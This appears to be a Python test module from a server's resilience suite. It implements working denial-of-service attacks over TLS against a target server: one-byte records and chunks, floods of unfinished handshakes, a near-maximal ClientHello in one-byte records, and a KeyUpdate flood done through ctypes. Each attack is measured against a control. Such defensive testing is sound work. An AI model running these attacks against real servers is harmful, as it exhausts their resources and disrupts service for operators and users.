"""Attacks on HTTP over TLS: records, chunks within records and handshakes that are small, many, or never finished.

As `http_parts.py` in plaintext. Whoever sends records has to encrypt each of them: an attacker pays as a server does.
"""

import _ssl
import ctypes
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from typing import Any

from tests.attacks.http_edge import NUM_SILENT, probes
from tests.attacks.http_parts import (
    CHUNKED,
    LARGE_CHUNKS,
    NUM_SENDERS,
    ONE_PAGE,
    PART_BYTES,
    PAUSE_SECONDS,
    chunks,
    head,
)
from tests.attacks.http_requests import UNCHECKED, split
from tests.attacks.victim import Attack, Figures, Victim, attack, judged

RECORD_BYTES = 2**14
"""Of the largest records."""
SMALL_PART_BYTES = 2**12
"""Of what is sent at once in records of one byte."""
HELLO_BYTES = 60_000
"""Of a large ClientHello."""
KEY_UPDATES = 256
"""Sent at once."""
KEY_UPDATE_BYTES = 27
"""Of a record with one, encrypted."""
UPDATE_REQUESTED = 1
"""Asks the other end to change its keys too."""
LENGTH = b"content-length: 8000000\r\n\r\n"
BODY = head() + LENGTH


class Secured:
    """A client's end of a connection over TLS, which decides what is a record, and what is sent at once."""

    def __init__(self, raw: socket.socket) -> None:
        """Shakes hands."""
        self._raw = raw
        self._incoming, self._outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = UNCHECKED.wrap_bio(self._incoming, self._outgoing)
        while True:
            try:
                self._tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._flush()
                self._incoming.write(raw.recv(2**16))
        self._flush()

    def send(self, data: bytes, record_bytes: int = RECORD_BYTES, *, at_once: bool = True) -> None:
        """Sends data in records of so many bytes, in as few segments of TCP as possible or in one for each record."""
        for start in range(0, len(data), record_bytes):
            self._tls.write(data[start : start + record_bytes])
            if not at_once:
                self._flush()
        self._flush()

    def read(self) -> bytes:
        """Returns the first part of an answer."""
        while True:
            try:
                return self._tls.read(2**16)
            except ssl.SSLWantReadError:
                self._incoming.write(self._raw.recv(2**16))

    def update_keys(self, times: int) -> None:
        """Sends messages that change the keys of TLS 1.3, for which Python has no function."""
        openssl = ctypes.CDLL(_ssl.__file__)
        # PyObject_HEAD, the socket and the SSL of a PySSLSocket, in CPython 3.11 and 3.12.
        own: Any = self._tls._sslobj  # type: ignore[attr-defined]
        connection = ctypes.c_void_p.from_address(id(own) + object.__basicsize__ + ctypes.sizeof(ctypes.c_void_p))
        for _ in range(times):
            if not openssl.SSL_key_update(connection, UPDATE_REQUESTED):
                raise ssl.SSLError("no key update can be sent")
            self._tls.do_handshake()
        self._flush()

    def _flush(self) -> None:
        self._raw.sendall(self._outgoing.read())


@contextmanager
def connected(victim: Victim) -> Iterator[socket.socket]:
    with socket.create_connection(split(victim.http), timeout=1.0) as raw:
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        yield raw


def on_connections(use: Callable[[socket.socket, float], int], pause_s: float = PAUSE_SECONDS) -> Attack:
    """Returns what opens connections, several at a time, one after the other.

    Args:
        use: of one connection, until a time of `time.monotonic`; returns how many bytes were sent.
        pause_s: before a connection is opened anew.
    """

    def send_for(victim: Victim) -> tuple[int, int]:
        until, sent, opened = time.monotonic() + victim.seconds, 0, 0
        while time.monotonic() < until:
            with suppress(OSError), connected(victim) as raw:
                opened += 1
                sent += use(raw, until)
            time.sleep(pause_s)
        return sent, opened

    def run(victim: Victim) -> Figures:
        with ThreadPoolExecutor(NUM_SENDERS) as threads:
            sending = [threads.submit(send_for, victim) for _ in range(NUM_SENDERS)]
            each = [one.result() for one in sending]
        return judged({"mib": sum(sent for sent, _ in each) / 2**20, "connections": sum(one for _, one in each)}, {})

    return run


def sender(first: bytes, then: bytes, record_bytes: int = RECORD_BYTES, *, at_once: bool = True) -> Attack:
    """Returns what sends `first`, and then `then` again and again in records of so many bytes."""

    def use(raw: socket.socket, until: float) -> int:
        connection, sent = Secured(raw), 0
        connection.send(first)
        with suppress(OSError):
            while time.monotonic() < until:
                connection.send(then, record_bytes, at_once=at_once)
                sent += len(then)
        return sent

    return on_connections(use)


LARGE_RECORDS = sender(BODY, b" " * PART_BYTES)
LARGE_CHUNKS_IN_RECORDS = sender(head() + CHUNKED, LARGE_CHUNKS)


@attack("anyone", control=LARGE_RECORDS, over_tls=True)
def records_of_one_byte(victim: Victim) -> Figures:
    """A body with a declared length in records of one byte each, many in a segment of TCP."""
    return sender(BODY, b" " * SMALL_PART_BYTES, 1)(victim)


@attack("anyone", control=LARGE_RECORDS, over_tls=True)
def segments_of_one_record(victim: Victim) -> Figures:
    """The same with a segment for each record."""
    return sender(BODY, b" " * SMALL_PART_BYTES, 1, at_once=False)(victim)


@attack("anyone", control=LARGE_CHUNKS_IN_RECORDS, over_tls=True)
def tiny_chunks_in_large_records(victim: Victim) -> Figures:
    """Chunks of one byte each, in records as large as they may be."""
    return sender(head() + CHUNKED, chunks(b"1\r\nx\r\n"))(victim)


@attack("anyone", control=LARGE_CHUNKS_IN_RECORDS, over_tls=True)
def tiny_chunks_in_tiny_records(victim: Victim) -> Figures:
    return sender(head() + CHUNKED, b"1\r\nx\r\n" * (SMALL_PART_BYTES // 6), 1)(victim)


def client_hello(context: ssl.SSLContext) -> bytes:
    """Returns what a client says first."""
    outgoing = ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    return outgoing.read()


HELLO = client_hello(UNCHECKED)


def shake_hands(raw: socket.socket, _until: float) -> int:
    """Shakes hands, and asks for a page."""
    connection = Secured(raw)
    connection.send(ONE_PAGE)
    connection.read()
    return len(HELLO) + len(ONE_PAGE)


def begin_handshake(raw: socket.socket, _until: float) -> int:
    """Has the server choose keys and sign, which costs this end nothing."""
    raw.sendall(HELLO)
    raw.recv(1)
    return len(HELLO)


@attack("anyone", control=on_connections(shake_hands, 0.0), over_tls=True)
def handshakes_begun(victim: Victim) -> Figures:
    """Handshakes of which the first message is sent, again and again."""
    return on_connections(begin_handshake, 0.0)(victim)


@attack("anyone", over_tls=True)
def unfinished_handshakes(victim: Victim) -> Figures:
    """More handshakes than there may be connections, all of which wait for their second message."""
    with ExitStack() as stack:
        opened = 0
        with suppress(OSError):
            for _ in range(NUM_SILENT):
                raw = stack.enter_context(socket.create_connection(split(victim.http), timeout=2.0))
                with suppress(OSError):
                    raw.sendall(HELLO)
                opened += 1
        return {"opened": opened, **probes(victim, victim.http, "/health")}


def large_hello() -> bytes:
    """Returns the handshake message, without the headers of its records, and without its last byte."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([f"{number:0250}" for number in range(HELLO_BYTES // 250)])
    data, message = client_hello(context), b""
    while data:
        length = int.from_bytes(data[3:5])
        message, data = message + data[5 : 5 + length], data[5 + length :]
    return message[:-1]


def in_records(message: bytes, record_bytes: int) -> bytes:
    """Returns a handshake message in plaintext records of so many bytes."""
    parts = (message[start : start + record_bytes] for start in range(0, len(message), record_bytes))
    return b"".join(b"\x16\x03\x01" + len(part).to_bytes(2) + part for part in parts)


def hello_sender(record_bytes: int) -> Attack:
    hello = in_records(large_hello(), record_bytes)

    def use(raw: socket.socket, _until: float) -> int:
        raw.sendall(hello)
        return len(hello)

    return on_connections(use)


@attack("anyone", control=hello_sender(RECORD_BYTES), over_tls=True)
def hellos_in_records_of_one_byte(victim: Victim) -> Figures:
    """First messages as large as they may be, but for the last byte, in records of one byte each."""
    return hello_sender(1)(victim)


@attack("anyone", control=LARGE_RECORDS, over_tls=True)
def key_updates(victim: Victim) -> Figures:
    """A request, and behind it nothing but messages that change the keys."""

    def use(raw: socket.socket, until: float) -> int:
        connection, sent = Secured(raw), 0
        connection.send(BODY)
        while time.monotonic() < until:
            connection.update_keys(KEY_UPDATES)
            sent += KEY_UPDATES * KEY_UPDATE_BYTES
        return sent

    return on_connections(use)(victim)
